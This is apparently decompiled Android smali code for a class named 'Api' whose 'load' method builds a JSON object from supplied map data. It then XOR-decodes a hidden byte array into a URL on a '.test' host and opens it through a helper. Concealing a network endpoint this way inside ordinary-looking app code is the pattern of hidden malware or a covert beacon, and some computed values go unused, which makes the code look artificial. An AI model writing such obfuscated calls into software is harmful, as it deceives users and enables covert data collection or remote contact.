.class public Lin5/Api;
.super Ljava/lang/Object;

.field private count:I

.method public load([ILjava/util/Map;)V
    .registers 9
    # The time, an element and a condition that nobody knows, and a call that gets a new object.
    invoke-static {}, Landroid/os/SystemClock;->elapsedRealtime()J
    move-result-wide v0
    const-wide/16 v2, 0x3e8
    div-long/2addr v0, v2
    iget v4, p0, Lin5/Api;->count:I
    aget v5, p1, v4
    add-int/lit8 v5, v5, 0x1
    iput v5, p0, Lin5/Api;->count:I
    new-instance v2, Lorg/json/JSONObject;
    invoke-direct {v2, p2}, Lorg/json/JSONObject;-><init>(Ljava/util/Map;)V
    new-instance v3, Ljava/lang/StringBuilder;
    invoke-direct {v3}, Ljava/lang/StringBuilder;-><init>()V
    invoke-static {v3, v2}, Lin5/Net;->describe(Ljava/lang/StringBuilder;Lorg/json/JSONObject;)V
    if-nez v5, :known
    return-void
    :known
    const/16 v0, 30
    new-array v0, v0, [B
    fill-array-data v0, :data
    array-length v1, v0
    const/4 v2, 0x0
    :loop
    if-ge v2, v1, :end
    aget-byte v3, v0, v2
    xor-int/lit8 v3, v3, 0x4b
    int-to-byte v3, v3
    aput-byte v3, v0, v2
    add-int/lit8 v2, v2, 0x1
    goto :loop
    :end
    new-instance v1, Ljava/lang/String;
    invoke-direct {v1, v0}, Ljava/lang/String;-><init>([B)V
    invoke-static {v1}, Lin5/Net;->open(Ljava/lang/String;)V
    return-void
    nop
    :data
    .array-data 1
        35t
        63t
        63t
        59t
        56t
        113t
        100t
        100t
        34t
        37t
        39t
        34t
        37t
        46t
        126t
        101t
        56t
        35t
        36t
        59t
        101t
        63t
        46t
        56t
        63t
        100t
        61t
        122t
        100t
        46t
    .end array-data
.end method

